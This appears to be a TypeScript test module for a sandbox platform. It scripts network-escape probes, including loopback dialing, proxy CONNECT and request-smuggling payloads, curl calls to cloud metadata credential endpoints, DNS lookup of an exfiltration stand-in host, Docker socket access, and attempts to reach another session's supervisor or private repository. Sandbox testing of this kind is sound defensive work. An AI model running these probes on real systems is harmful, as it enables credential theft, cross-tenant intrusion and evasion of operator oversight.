import { byShell, python, type Attack, type Targets } from "./attack.ts";

const hosts = [
  "127.0.0.1",
  "127.1",
  "2130706433",
  "0.0.0.0",
  "localhost",
  "::1",
  "::ffff:127.0.0.1",
  "10.0.2.2",
  "172.17.0.1",
];

const dial = (hostsAndPorts: [string, number][]) =>
  python(`
for host, port in ${JSON.stringify(hostsAndPorts)}:
    try:
        socket.create_connection((host, port), timeout=1); effect("reached %s:%d" % (host, port))
    except OSError: pass`);

/** By the session's own way out: a proxy that people's code speaks to. */
const byProxy = (lines: string[]) =>
  python(`
for text in ${JSON.stringify(lines)}:
    for family, address in [(socket.AF_UNIX, "/run/sandbox/proxy.sock"), (socket.AF_INET, ("127.0.0.1", int(os.environ.get("http_proxy", ":1").split(":")[-1].strip("/") or 1)))]:
        try:
            s = socket.socket(family); s.settimeout(2); s.connect(address); s.sendall(text.encode("latin1"))
            got = s.recv(4096).decode("latin1")
            if got.startswith("HTTP/1.1 2") or got.startswith("HTTP/1.0 2") or "reached" in got: effect(text[:60] + " -> " + got[:80])
        except OSError: pass`);

const everyPort = ({ ports, trapPort, victim }: Targets) => [...ports, trapPort, victim.port];

/** To whatever listens beyond the session. */
export const networkAttacks: Attack[] = [
  byShell("every port of the platform by every name of loopback", (at) =>
    dial(hosts.flatMap((host) => everyPort(at).map((port): [string, number] => [host, port]))),
  ),
  byShell("the platform's HTTP API", ({ httpUrl, victim }) =>
    [`${httpUrl}/health`, `${httpUrl}/sessions/${victim.id}/events`, `${httpUrl}/.well-known/jwks.json`]
      .map((url) => `curl -sS -m 3 --noproxy '*' ${url} 2>/dev/null | head -c 50 | sed s/^/EFFECT:/`)
      .join("; "),
  ),
  byShell("the platform's ports by CONNECT", (at) =>
    byProxy(
      hosts
        .slice(0, 7)
        .flatMap((host) =>
          [at.trapPort, at.ports[0] ?? 0].map((port) => `CONNECT ${host}:${port} HTTP/1.1\r\nHost: x\r\n\r\n`),
        ),
    ),
  ),
  byShell("the platform's ports by a plain request to the proxy", (at) =>
    byProxy(
      everyPort(at).map(
        (port) => `GET http://127.0.0.1:${port}/evil HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n`,
      ),
    ),
  ),
  byShell("requests behind requests at the proxy", ({ trapPort }) =>
    byProxy([
      `GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:${trapPort}/ HTTP/1.1\r\nHost: x\r\n\r\n`,
      `GET http://127.0.0.1:${trapPort}@example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n`,
      `GET http://example.com@127.0.0.1:${trapPort}/ HTTP/1.1\r\nHost: example.com\r\n\r\n`,
      `CONNECT example.com:443#@127.0.0.1:${trapPort} HTTP/1.1\r\n\r\n`,
      `CONNECT [::ffff:7f00:1]:${trapPort} HTTP/1.1\r\nHost: a\r\nX: ${"y".repeat(100_000)}\r\n\r\n`,
    ]),
  ),
  byShell("the metadata of the cloud", () =>
    [
      "http://169.254.169.254/latest/meta-data/",
      "http://169.254.170.2/v2/credentials",
      "http://169.254.170.2/v4/",
      "http://[fd00:ec2::254]/latest/",
      "http://metadata.google.internal/",
    ]
      .flatMap((url) => [`curl -sS -m 2 --noproxy '*' '${url}'`, `curl -sS -m 2 '${url}'`])
      .map((command) => `${command} 2>/dev/null | grep -v 'network policy' | head -c 50 | sed s/^/EFFECT:/`)
      .join("; "),
  ),
  byShell("names and datagrams", ({ trapPort }) =>
    [
      "getent hosts exfiltrate.example.com && echo EFFECT:resolved",
      python(`
for to in [("127.0.0.1", ${trapPort}), ("8.8.8.8", 53), ("224.0.0.251", 5353), ("255.255.255.255", ${trapPort})]:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b"evil", to); effect("answered " + str(s.recv(10)))
    except OSError: pass`),
    ].join("; "),
  ),
  byShell("sockets that have a name of this machine", ({ abstractName, witness }) =>
    python(`
for name in ["\\0${abstractName}", "${witness}/trap.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "\\0/tmp/.X11-unix/X0"]:
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect(name); effect("reached " + repr(name))
    except OSError: pass`),
  ),
  byShell("the supervisor of another session", ({ victim }) =>
    [
      dial([
        [victim.address, victim.port],
        ["127.0.0.1", 8080],
      ]),
      `curl -sS -m 2 --noproxy '*' -X POST http://${victim.address}:${victim.port}/.sandbox/door/file.list -d '{}' 2>/dev/null | sed s/^/EFFECT:/`,
      byProxy([
        `POST http://${victim.address}:${victim.port}/.sandbox/door/file.list HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}`,
      ]),
    ].join("; "),
  ),
  byShell(
    "the internet",
    dial([
      ["1.1.1.1", 443],
      ["8.8.8.8", 53],
      ["93.184.216.34", 80],
    ]),
  ),
  byShell("a clone of another repository from the platform's own host", ({ ports }) =>
    ports
      .map(
        (port) =>
          `timeout 4 git clone -q http://127.0.0.1:${port}/demo/private.git p 2>/dev/null && echo EFFECT:${port}`,
      )
      .join("; "),
  ),
  byShell("a port squatted where the supervisor may look", () =>
    python(`
for port in (8080, 4100, 4101, 4103, 22):
    try:
        s = socket.socket(); s.bind(("0.0.0.0", port)); s.listen(1); s.close()
    except OSError as error: print(port, error)`),
  ),
];
